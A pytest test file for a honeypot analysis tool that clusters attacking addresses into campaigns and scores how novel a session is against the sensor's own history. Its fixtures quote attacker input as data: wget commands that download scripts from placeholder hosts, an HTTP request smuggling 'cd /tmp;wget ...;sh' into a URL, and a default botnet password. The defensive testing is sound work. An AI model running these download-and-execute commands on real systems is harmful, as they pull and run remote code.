"""Campaigns keep their name whatever else comes; novelty is measured against the sensor's own history, or not at all."""

from collections.abc import Callable, Mapping, Sequence
from math import log2
from typing import Any, TypeAlias

import pytest

from honeyguide.investigate.campaigns import campaigns
from honeyguide.investigate.findings import scope_of
from honeyguide.investigate.novelty import novelty
from honeyguide.investigate.sessions import sessions
from honeyguide.store.naive import NaiveStore
from honeyguide.streams.tlsh import tlsh

SmallStore: TypeAlias = Callable[[Sequence[Mapping[str, Any]]], NaiveStore]


def event(address: str, module: str, **values: object) -> dict[str, Any]:
    named = {name.replace("__", "."): value for name, value in values.items()}
    base = {"@timestamp": "2026-03-04T10:00:00+00:00", "event.dataset": f"{module}.json", "event.module": module, "source.ip": address}
    return {**base, **named}


def bot(number: int) -> list[dict[str, Any]]:
    return [
        event(
            f"192.0.2.{number}",
            "cowrie",
            honeypot__credential__password=["xc3511"],
            honeypot__command=["cd /tmp; wget http://192.0.2.99/m"],
        ),
        event(f"192.0.2.{number}", "dionaea", honeypot__credential__password=["xc3511"]),
    ]


def test_addresses_that_do_the_same_on_two_honeypots_are_one_campaign(small_store: SmallStore) -> None:
    other = [event(f"203.0.113.{number}", "dionaea", honeypot__payload__sha256="ab" * 32) for number in (1, 2)]
    alone = event("198.51.100.9", "dionaea", honeypot__command=["uname -a"])
    first, second = campaigns(scope_of(small_store([*bot(1), *bot(2), *bot(3), *other, alone])))
    assert first.addresses == ("192.0.2.1", "192.0.2.2", "192.0.2.3")
    assert [(one.field, one.text) for one in first.features] == [
        ("honeypot.command", "cd /tmp; wget http://<address>/m"),
        ("honeypot.credential.password", "xc3511"),
    ]
    assert first.honeypots == ("cowrie", "dionaea")
    assert [(one.field, one.text) for one in second.features] == [("honeypot.payload.sha256", "ab" * 32)]
    assert second.addresses == ("203.0.113.1", "203.0.113.2")


def test_a_campaign_keeps_its_id_as_more_addresses_join(small_store: SmallStore) -> None:
    (before,) = campaigns(scope_of(small_store([*bot(1), *bot(2)])))
    (after,) = campaigns(scope_of(small_store([*bot(1), *bot(2), *bot(3), *bot(4)])))
    assert before.id == after.id
    assert before.id.startswith("c-")
    assert len(after.addresses) == 4


def test_commands_that_differ_in_addresses_and_numbers_are_one(small_store: SmallStore) -> None:
    said = [f"wget http://198.51.100.{number}:8{number}/x{number}.sh" for number in (1, 2, 3)]
    (campaign,) = campaigns(scope_of(small_store([event(f"192.0.2.{n}", "cowrie", honeypot__command=[one]) for n, one in enumerate(said)])))
    assert campaign.anchor.text == "wget http://<address>/x<number>.sh"
    assert campaign.anchor.values == tuple(said)


def test_payloads_that_are_nearly_the_same_are_one(small_store: SmallStore) -> None:
    request = "GET /shell?cd+/tmp;wget+http://198.51.100.{}/jaws;sh HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 192.0.2.1:80\r\n\r\n"
    sent = [tlsh(request.format(number).encode()) for number in (1, 2)]
    assert sent[0] != sent[1]
    strange = tlsh(bytes(range(256)) * 2)
    events = [event(f"192.0.2.{n}", "dionaea", honeypot__payload__tlsh=one) for n, one in enumerate([*sent, strange])]
    (campaign,) = campaigns(scope_of(small_store(events)))
    assert campaign.addresses == ("192.0.2.0", "192.0.2.1")


def test_a_campaign_keeps_its_id_as_more_is_known_of_it(small_store: SmallStore) -> None:
    later = {"@timestamp": "2026-03-05T10:00:00+00:00"}
    (before,) = campaigns(scope_of(small_store([*bot(1), *bot(2)])))
    payloads = [event(f"192.0.2.{number}", "dionaea", honeypot__payload__sha256="cd" * 32) | later for number in (1, 2)]
    (after,) = campaigns(scope_of(small_store([*bot(1), *bot(2), *payloads])))
    assert len(after.features) == 3
    assert after.id == before.id


def test_what_everybody_tries_is_no_campaign(small_store: SmallStore) -> None:
    events = [event(f"192.0.2.{n}", "cowrie", honeypot__credential__password=["123456"]) for n in range(9)]
    events += [event(f"198.51.100.{n}", "cowrie", honeypot__credential__password=["h4ndm4de"]) for n in range(2)]
    assert list(campaigns(scope_of(small_store(events)))) == []


def connection(stamp: str, port: int, source_port: int = 40000) -> dict[str, Any]:
    return {
        "@timestamp": stamp,
        "event.dataset": "dionaea.json",
        "event.module": "dionaea",
        "event.action": "connection-accept",
        "source.ip": "192.0.2.7",
        "source.port": source_port,
        "destination.port": port,
    }


def test_what_never_came_before_is_newer_than_what_always_came(small_store: SmallStore) -> None:
    past = [connection(f"2026-03-{1 + hour // 24:02}T{hour % 24:02}:00:00+00:00", 445) for hour in range(62)]
    recent = [connection("2026-03-05T12:00:00+00:00", 445, 1), connection("2026-03-05T12:10:00+00:00", 27017, 2)]
    store = small_store([*past, *recent])
    scope = scope_of(store, since="2026-03-05T00:00:00Z")
    usual, unusual = (novelty(scope, session) for session in list(sessions(store))[-2:])
    assert usual is not None
    assert unusual is not None
    assert usual.traits["destination.port", "445"] == pytest.approx(log2(64 / 63))
    assert unusual.traits["destination.port", "27017"] == pytest.approx(6.0)
    assert usual.bits < unusual.bits


def test_without_a_history_nothing_is_novel(small_store: SmallStore) -> None:
    store = small_store([connection("2026-03-05T12:00:00+00:00", 445)])
    (session,) = sessions(store)
    assert novelty(scope_of(store), session) is None
